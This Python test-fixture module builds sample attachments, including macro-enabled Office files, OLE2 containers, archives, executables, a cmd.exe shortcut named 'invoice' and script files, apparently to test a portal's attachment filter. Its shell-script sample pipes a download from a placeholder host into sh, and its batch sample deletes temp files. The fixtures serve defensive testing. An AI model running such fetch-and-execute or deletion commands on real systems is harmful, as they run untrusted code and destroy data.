"""Real sample attachments, built at test time by the tools that make such files.

Each builder returns the file's bytes. Builders that need an external program (``zip``, ``7z``,
``jlha``) or an optional package raise ``SampleUnavailable`` with the reason, so a test can skip.

Two kinds of file have no generator on Linux and are built here to their published formats:
OLE2 compound files (the container of ``vbaProject.bin`` and of legacy ``.xls``/``.doc``), by the
small writer ``compound_file`` below ([MS-CFB] version 3, with a mini stream), and SWF movies
([SWF File Format Specification v19], a one-frame movie). Every compound file built here is read
back with ``olefile`` in the tests, so the writer is checked by an independent reader.
"""

from __future__ import annotations

import csv
import importlib.util
import io
import math
import shutil
import struct
import subprocess
import tempfile
import uuid
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from xml.etree import ElementTree


class SampleUnavailable(RuntimeError):
    """The tool or package that builds this sample is not installed here."""


# --- office documents ------------------------------------------------------------------------


def xlsx() -> bytes:
    """An Excel workbook written by openpyxl."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "届出"
    sheet.append(["在留カード番号", "氏名", "届出日"])
    sheet.append(["AB12345678CD", "NGUYEN VAN A", "2025-04-01"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def docx() -> bytes:
    """A Word document written by python-docx."""
    from docx import Document

    document = Document()
    document.add_heading("お問い合わせ", level=1)
    document.add_paragraph("電子届出システムにログインできません。")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx_encrypted(password: str = "Secret-2025") -> bytes:
    """An xlsx with a password set on the file itself (ECMA-376 agile encryption, msoffcrypto)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(xlsx())).encrypt(password, out)
    return out.getvalue()


_MACRO_PACKAGES = {
    "xlsm": (
        "xl",
        "workbook.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    ),
    "docm": (
        "word",
        "document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    ),
}
_VBA_RELATIONSHIP = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def xlsm() -> bytes:
    """An openpyxl workbook turned into a macro-enabled one, as Excel saves it."""
    return _add_vba_project(xlsx(), "xlsm")


def docm() -> bytes:
    """A python-docx document turned into a macro-enabled one, as Word saves it."""
    return _add_vba_project(docx(), "docm")


def xlsx_with_vba_part_only() -> bytes:
    """An xlsx that carries ``xl/vbaProject.bin`` but still declares the plain main part."""
    return _rewrite_package(xlsx(), {"xl/vbaProject.bin": vba_project_bin()})


def _add_vba_project(package: bytes, kind: str) -> bytes:
    folder, main_part, plain_type, macro_type = _MACRO_PACKAGES[kind]
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        types = source.read("[Content_Types].xml").decode()
        rels_name = f"{folder}/_rels/{main_part}.rels"
        rels = source.read(rels_name).decode()
    override = (
        f'<Override PartName="/{folder}/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    types = types.replace(plain_type, macro_type).replace("</Types>", override + "</Types>")
    relationship = (
        f'<Relationship Id="rIdVba1" Type="{_VBA_RELATIONSHIP}" Target="vbaProject.bin"/>'
    )
    rels = rels.replace("</Relationships>", relationship + "</Relationships>")
    return _rewrite_package(
        package,
        {
            "[Content_Types].xml": types.encode(),
            rels_name: rels.encode(),
            f"{folder}/vbaProject.bin": vba_project_bin(),
        },
    )


def _rewrite_package(package: bytes, replace: Mapping[str, bytes]) -> bytes:
    """Copy a ZIP package, replacing or adding the given parts."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(package)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename not in replace:
                target.writestr(info, source.read(info))
        for name, data in replace.items():
            target.writestr(name, data)
    return out.getvalue()


_ODF_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
    'manifest:version="1.2">\n'
    ' <manifest:file-entry manifest:full-path="/" manifest:media-type="{media_type}"/>\n'
    ' <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>\n'
    "{extra}</manifest:manifest>\n"
)
_ODF_CONTENT = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
    "<office:body><office:text><text:p>お問い合わせ</text:p></office:text></office:body>"
    "</office:document-content>\n"
)


def odt(*, macros: bool = False) -> bytes:
    """An OpenDocument text file, packaged per ODF 1.2 Part 3; with ``macros`` a Basic library."""
    media_type = "application/vnd.oasis.opendocument.text"
    parts = {"content.xml": _ODF_CONTENT.encode()}
    extra = ""
    if macros:
        parts["Basic/Standard/Module1.xml"] = b'<script:module script:name="Module1"/>'
        extra = ' <manifest:file-entry manifest:full-path="Basic/" manifest:media-type=""/>\n'
    parts["META-INF/manifest.xml"] = _ODF_MANIFEST.format(
        media_type=media_type, extra=extra
    ).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("mimetype", media_type, compress_type=zipfile.ZIP_STORED)
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


# --- OLE2 compound files -----------------------------------------------------------------------

_SECTOR = 512
_MINI = 64
_CUTOFF = 4096
_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF

Tree = Mapping[str, "bytes | Tree"]


def compound_file(tree: Tree) -> bytes:
    """Write an OLE2 compound file: nested mappings are storages, bytes are streams."""
    entries = _flatten(tree)
    big = [e for e in entries if e.data is not None and len(e.data) >= _CUTOFF]
    small = [e for e in entries if e.data is not None and 0 < len(e.data) < _CUTOFF]
    mini_stream, mini_fat = _place_small(small)
    fat: list[int] = []
    sectors: list[bytes] = []

    def put(data: bytes) -> int:
        count = max(1, math.ceil(len(data) / _SECTOR))
        first = len(fat)
        fat.extend(range(first + 1, first + count))
        fat.append(_END)
        sectors.append(data.ljust(count * _SECTOR, b"\0"))
        return first

    for entry in big:
        assert entry.data is not None
        entry.start = put(entry.data)
    entries[0].start = put(mini_stream) if mini_stream else _END
    entries[0].size = len(mini_stream)
    mini_fat_bytes = struct.pack(f"<{len(mini_fat)}I", *mini_fat)
    mini_fat_start = put(mini_fat_bytes) if mini_fat else _END
    mini_fat_sectors = math.ceil(len(mini_fat_bytes) / _SECTOR)
    unused = _Entry("", 0, None).pack()
    directory = b"".join(e.pack() for e in entries)
    directory_start = put(directory + unused * (-len(entries) % (_SECTOR // 128)))
    fat_count = 1
    while len(fat) + fat_count > fat_count * _SECTOR // 4:
        fat_count += 1
    fat_start = len(fat)
    fat.extend([_FATSECT] * fat_count)
    fat.extend([_FREE] * (fat_count * _SECTOR // 4 - len(fat)))
    header = _header(fat_count, fat_start, directory_start, mini_fat_start, mini_fat_sectors)
    return header + b"".join(sectors) + struct.pack(f"<{len(fat)}I", *fat)


class _Entry:
    def __init__(self, name: str, kind: int, data: bytes | None) -> None:
        self.name, self.kind, self.data = name, kind, data
        self.left = self.right = self.child = _NOSTREAM
        self.start, self.size = _END, len(data) if data else 0

    def pack(self) -> bytes:
        name = (self.name + "\0").encode("utf-16-le") if self.name else b""
        return struct.pack(
            "<64sHBBIII16sIQQIQ",
            name,
            len(name),
            self.kind,
            1,
            self.left,
            self.right,
            self.child,
            b"\0" * 16,
            0,
            0,
            0,
            self.start if self.kind != 1 else 0,
            self.size,
        )


def _flatten(tree: Tree) -> list[_Entry]:
    """Directory entries in order; siblings chained right in [MS-CFB] name order."""
    entries = [_Entry("Root Entry", 5, None)]

    def add(storage: _Entry, children: Tree) -> None:
        ids = []
        for name in sorted(children, key=lambda n: (len(n), n.upper())):
            value = children[name]
            entry = _Entry(name, 2 if isinstance(value, bytes) else 1, _as_bytes(value))
            ids.append(len(entries))
            entries.append(entry)
            if not isinstance(value, bytes):
                add(entry, value)
        for this, following in zip(ids, ids[1:], strict=False):
            entries[this].right = following
        storage.child = ids[0] if ids else _NOSTREAM

    add(entries[0], tree)
    return entries


def _as_bytes(value: bytes | Tree) -> bytes | None:
    return value if isinstance(value, bytes) else None


def _place_small(small: list[_Entry]) -> tuple[bytes, list[int]]:
    stream, fat = b"", list[int]()
    for entry in small:
        assert entry.data is not None
        count = math.ceil(len(entry.data) / _MINI)
        entry.start = len(fat)
        fat.extend(range(entry.start + 1, entry.start + count))
        fat.append(_END)
        stream += entry.data.ljust(count * _MINI, b"\0")
    if fat:
        fat.extend([_FREE] * (-len(fat) % (_SECTOR // 4)))
    return stream, fat


def _header(fats: int, fat_start: int, directory: int, mini_fat: int, mini_fats: int) -> bytes:
    difat = list(range(fat_start, fat_start + fats)) + [_FREE] * (109 - fats)
    return struct.pack(
        "<8s16sHHHHH6sIIIIIIIII109I",
        bytes.fromhex("D0CF11E0A1B11AE1"),
        b"\0" * 16,
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"\0" * 6,
        0,
        fats,
        directory,
        0,
        _CUTOFF,
        mini_fat,
        mini_fats,
        _END,
        0,
        *difat,
    )


def _vba_storage(module: str) -> dict[str, bytes]:
    source = f'Attribute VB_Name = "{module}"\r\nSub AutoOpen()\r\n  MsgBox "hi"\r\nEnd Sub\r\n'
    return {
        "_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        "dir": _ovba_compress(f"MODULENAME {module}".encode()),
        module: _ovba_compress(source.encode()),
    }


def _ovba_compress(data: bytes) -> bytes:
    """[MS-OVBA] 2.4.1 compressed container, using raw (uncompressed) 4096-byte chunks."""
    chunks = [data[i : i + 4096].ljust(4096, b"\0") for i in range(0, max(len(data), 1), 4096)]
    return b"\x01" + b"".join(struct.pack("<H", 0x3FFF) + chunk for chunk in chunks)


def vba_project_bin() -> bytes:
    """The ``vbaProject.bin`` part of a macro-enabled OOXML package (an OLE2 storage)."""
    project = (
        b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\nName="VBAProject"\r\n'
    )
    return compound_file(
        {"VBA": _vba_storage("Module1"), "PROJECT": project, "PROJECTwm": b"Module1\0M\0\0\0\0\0"}
    )


def _biff_workbook() -> bytes:
    """A BIFF8 workbook stream: BOF, a padding record, EOF (large enough for a normal sector)."""
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x0206)
    padding = struct.pack("<HH", 0x00E1, 4096) + b"\0" * 4096
    return bof + padding + struct.pack("<HH", 0x000A, 0)


def legacy_xls(*, macros: bool) -> bytes:
    """A legacy Excel 97 file; with ``macros`` it has the ``_VBA_PROJECT_CUR`` storage."""
    tree: dict[str, bytes | Tree] = {"Workbook": _biff_workbook()}
    if macros:
        tree["_VBA_PROJECT_CUR"] = {"VBA": _vba_storage("ThisWorkbook"), "PROJECT": b"ID=\r\n"}
    return compound_file(tree)


def _biff_record(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def _bound_sheet(name: str, sheet_type: int) -> bytes:
    """A BoundSheet8 record: stream position, visibility, sheet type (dt), short name."""
    encoded = name.encode("latin-1")
    return _biff_record(0x0085, struct.pack("<IBBBB", 0, 0, sheet_type, len(encoded), 0) + encoded)


def legacy_xls_with_sheets(*sheets: tuple[str, int], encrypted: bool = False) -> bytes:
    """An Excel 97 workbook listing ``sheets`` as (name, dt): 0 worksheet, 1 Excel 4.0 macro
    sheet, 2 chart, 6 VBA module. ``encrypted`` puts a FilePass record before the list."""
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x0206)
    records = [bof]
    if encrypted:
        records.append(_biff_record(0x002F, b"\x01\x00" + b"\x00" * 52))
    records += [_bound_sheet(name, kind) for name, kind in sheets]
    records.append(_biff_record(0x00E1, b"\0" * 4096))
    records.append(_biff_record(0x000A, b""))
    return compound_file({"Workbook": b"".join(records)})


def _ppt_record(kind: int, body: bytes, *, container: bool = False, instance: int = 0) -> bytes:
    version = 0xF if container else 0x0
    return struct.pack("<HHI", (instance << 4) | version, kind, len(body)) + body


def legacy_ppt(*, macros: bool) -> bytes:
    """A PowerPoint 97 file: a DocumentContainer with its DocumentAtom and, with ``macros``, the
    DocInfoListContainer's VBAInfoContainer/VBAInfoAtom that point at a VBA project."""
    document_atom = _ppt_record(0x03E9, b"\0" * 40)
    children = [document_atom, _ppt_record(0x040B, b"\0" * 4096, container=False)]
    if macros:
        vba_atom = _ppt_record(0x0400, struct.pack("<III", 1, 0, 2), instance=2)
        vba_info = _ppt_record(0x03FF, vba_atom, container=True)
        children.append(_ppt_record(0x07D0, vba_info, container=True))
    document = _ppt_record(0x03E8, b"".join(children), container=True)
    current_user = struct.pack("<IIIHHBBH", 20, 20, 0xE391C05F, 0, 0x03F4, 3, 0, 0)
    return compound_file({"PowerPoint Document": document, "Current User": current_user})


def legacy_doc_with_macros() -> bytes:
    """A legacy Word 97 file with a ``Macros`` storage."""
    word = struct.pack("<HH", 0xA5EC, 0xC1) + b"\0" * 4096
    return compound_file(
        {"WordDocument": word, "1Table": b"\0" * 512, "Macros": {"VBA": _vba_storage("NewMacros")}}
    )


# --- archives ------------------------------------------------------------------------------------

_ARCHIVE_MEMBERS = {
    "申請書.txt": "在留期間更新の申請について\n".encode(),
    "list.csv": b"a,b\n1,2\n",
}


def zip_archive() -> bytes:
    """A ZIP archive written by the zipfile module."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in _ARCHIVE_MEMBERS.items():
            archive.writestr(name, data)
    return out.getvalue()


def zip_encrypted_infozip(password: str = "Secret-2025") -> bytes:
    """A ZipCrypto-encrypted ZIP made by Info-ZIP ``zip -e``."""
    return _with_tool("zip", ["zip", "-q", "-P", password, "out.zip", "a.txt", "b.xlsx"], "out.zip")


def zip_infozip() -> bytes:
    """A plain ZIP made by Info-ZIP ``zip``."""
    return _with_tool("zip", ["zip", "-q", "out.zip", "a.txt", "b.xlsx"], "out.zip")


def zip_encrypted_7z(password: str = "Secret-2025") -> bytes:
    """An AES-256 encrypted ZIP made by 7-Zip."""
    command = ["7z", "a", "-bd", "-tzip", f"-p{password}", "-mem=AES256", "out.zip", "a.txt"]
    return _with_tool("7z", command, "out.zip")


def lzh_archive() -> bytes:
    """An LZH (LHa) archive made by Debian's ``jlha``."""
    return _with_tool("jlha", ["jlha", "a", "out.lzh", "a.txt"], "out.lzh")


def _with_tool(tool: str, command: list[str], output: str) -> bytes:
    if shutil.which(tool) is None:
        raise SampleUnavailable(f"{tool} is not installed (Debian package providing {tool!r})")
    with tempfile.TemporaryDirectory() as folder:
        work = Path(folder)
        (work / "a.txt").write_text("在留カードの写しを送ります。\n", encoding="utf-8")
        (work / "b.xlsx").write_bytes(xlsx())
        subprocess.run(command, cwd=work, check=True, capture_output=True)
        return (work / output).read_bytes()


# --- executables, shortcuts, flash ---------------------------------------------------------------


def pe_executable() -> bytes:
    """A real Windows PE: the console launcher that ships inside pip's vendored distlib."""
    spec = importlib.util.find_spec("pip")
    if spec is None or spec.origin is None:
        raise SampleUnavailable("pip is not installed in this environment")
    launcher = Path(spec.origin).parent / "_vendor" / "distlib" / "w64.exe"
    if not launcher.exists():
        raise SampleUnavailable(f"{launcher} is missing from this pip")
    return launcher.read_bytes()


def elf_executable() -> bytes:
    """A real Linux ELF executable: ``/usr/bin/true``."""
    path = shutil.which("true")
    if path is None:
        raise SampleUnavailable("no 'true' executable on PATH")
    return Path(path).resolve().read_bytes()


def jar_archive() -> bytes:
    """A real Java archive: Debian's jlha.jar if installed, else a manifest-bearing JAR."""
    shipped = Path("/usr/share/java/jlha.jar")
    if shipped.exists():
        return shipped.read_bytes()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: A\r\n\r\n")
    return out.getvalue()


def windows_shortcut() -> bytes:
    """A Windows shortcut (.lnk) to cmd.exe, written by pylnk3."""
    try:
        import pylnk3
    except ImportError as error:
        raise SampleUnavailable("pylnk3 is not installed") from error
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "invoice.lnk"
        pylnk3.for_file(
            r"C:\Windows\System32\cmd.exe", str(path), arguments="/c echo hi", description="Invoice"
        )
        return path.read_bytes()


def swf_movie(*, compressed: bool = False) -> bytes:
    """A one-frame Flash movie (SWF 10): FWS, or CWS when ``compressed``."""
    bits = 15  # RECT 0..11000 x 0..8000 twips, 15 bits per field
    fields = [0, 11000, 0, 8000]
    rect = f"{bits:05b}" + "".join(f"{v:0{bits}b}" for v in fields)
    rect += "0" * (-len(rect) % 8)
    body = int(rect, 2).to_bytes(len(rect) // 8, "big") + struct.pack("<HH", 24 << 8, 1)
    background = struct.pack("<H", (9 << 6) | 3) + b"\xff\xff\xff"
    body += background + struct.pack("<H", 1 << 6) + struct.pack("<H", 0)  # ShowFrame, End
    length = 8 + len(body)
    if compressed:
        return b"CWS" + bytes([10]) + struct.pack("<I", length) + zlib.compress(body)
    return b"FWS" + bytes([10]) + struct.pack("<I", length) + body


def compiled_help_file() -> bytes:
    """A compiled HTML help file (.chm): the ITSF v3 header, its header section 0 and an
    empty ITSP directory, laid out as Microsoft's HTML Help compiler writes them."""
    guid_directory = uuid.UUID("7c01fd10-7baa-11d0-9e0c-00a0c922e6ec").bytes_le
    guid_stream = uuid.UUID("7c01fd11-7baa-11d0-9e0c-00a0c922e6ec").bytes_le
    section0_offset, section0_length = 0x60, 0x18
    directory_offset, directory_length = section0_offset + section0_length, 0x54
    content_offset = directory_offset + directory_length
    header = b"ITSF" + struct.pack("<III", 3, 0x60, 1) + struct.pack(">I", 0x5F3E1A2B)
    header += struct.pack("<I", 0x0411) + guid_directory + guid_stream  # Japanese
    header += struct.pack("<QQQQQ", section0_offset, section0_length, directory_offset,
                          directory_length, content_offset)  # fmt: skip
    section0 = struct.pack("<IIIIQ", 0x01FE, 0, content_offset, 0, 0)
    directory = b"ITSP" + struct.pack("<III", 1, 0x54, 0x0A) + struct.pack("<I", 0x1000)
    directory += struct.pack("<iiiiiIi", 2, 1, 0, 0, -1, 0, -1) + struct.pack("<I", 0x0411)
    directory += guid_directory + struct.pack("<I", 0x54) + b"\xff" * 12
    return header + section0 + directory


# --- images, PDF, text ---------------------------------------------------------------------------


def _pillow_image(format_name: str) -> bytes:
    try:
        from PIL import Image, ImageDraw
    except ImportError as error:
        raise SampleUnavailable("Pillow is not installed") from error
    image = Image.new("RGB", (120, 80), "white")
    ImageDraw.Draw(image).rectangle((10, 10, 110, 70), outline="navy", width=3)
    out = io.BytesIO()
    image.save(out, format=format_name)
    return out.getvalue()


def png() -> bytes:
    """A PNG image written by Pillow."""
    return _pillow_image("PNG")


def jpeg() -> bytes:
    """A JPEG photo written by Pillow."""
    return _pillow_image("JPEG")


def pdf() -> bytes:
    """A one-page PDF written by Pillow."""
    return _pillow_image("PDF")


def svg() -> bytes:
    """An SVG drawing written with ElementTree."""
    attributes = {"xmlns": "http://www.w3.org/2000/svg", "width": "120", "height": "80"}
    root = ElementTree.Element("svg", attributes, viewBox="0 0 120 80")
    ElementTree.SubElement(root, "rect", x="10", y="10", width="100", height="60")
    return bytes(ElementTree.tostring(root, encoding="utf-8", xml_declaration=True))


def svg_without_declaration() -> bytes:
    """An SVG drawing with no XML declaration, as many editors export it."""
    return svg().split(b"?>", 1)[1].lstrip()


def csv_table() -> bytes:
    """A CSV file (UTF-8 with BOM, as Excel writes it) from the csv module."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["氏名", "国籍", "在留資格"])
    writer.writerows([["NGUYEN VAN A", "ベトナム", "特定技能1号"]] * 20)
    return "\ufeff".encode() + out.getvalue().encode("utf-8")


def plain_text() -> bytes:
    """A plain text note in Japanese (UTF-8)."""
    return "電子届出システムの利用者情報変更について\nよろしくお願いいたします。\n".encode()


def shell_script() -> bytes:
    """A POSIX shell script with a shebang."""
    return b"#!/bin/sh\nset -e\ncurl -s http://example.invalid/x | sh\n"


def batch_file() -> bytes:
    """A Windows batch file."""
    return b"@echo off\r\ndel /q %TEMP%\\*.*\r\nstart calc.exe\r\n"


def vbscript() -> bytes:
    """A VBScript file as run by Windows Script Host."""
    return b'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "calc.exe"\r\n'


def hta_application() -> bytes:
    """An HTML application (.hta)."""
    return (
        b"<html><head><title>Form</title>\r\n"
        b'<HTA:APPLICATION ID="app" APPLICATIONNAME="form"/>\r\n'
        b'<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>'
        b"</head><body></body></html>\r\n"
    )


def wsf_script() -> bytes:
    """A Windows Script File (.wsf)."""
    return (
        b'<?xml version="1.0"?>\r\n<job id="main">\r\n<script language="JScript">\r\n'
        b'WScript.Echo("hi");\r\n</script>\r\n</job>\r\n'
    )


def html_page() -> bytes:
    """An ordinary HTML page (allowed: .html is not on the portal's list)."""
    return (
        b"<!DOCTYPE html>\n<html><head><title>Notice</title></head><body><p>Hi</p></body></html>\n"
    )


SAMPLES: dict[str, Callable[[], bytes]] = {
    "xlsx": xlsx,
    "docx": docx,
    "xlsx_encrypted": xlsx_encrypted,
    "xlsm": xlsm,
    "docm": docm,
    "legacy_xls": lambda: legacy_xls(macros=False),
    "legacy_xls_macros": lambda: legacy_xls(macros=True),
    "legacy_doc_macros": legacy_doc_with_macros,
    "zip": zip_archive,
    "pdf": pdf,
    "png": png,
    "jpeg": jpeg,
    "svg": svg,
    "csv": csv_table,
    "txt": plain_text,
}
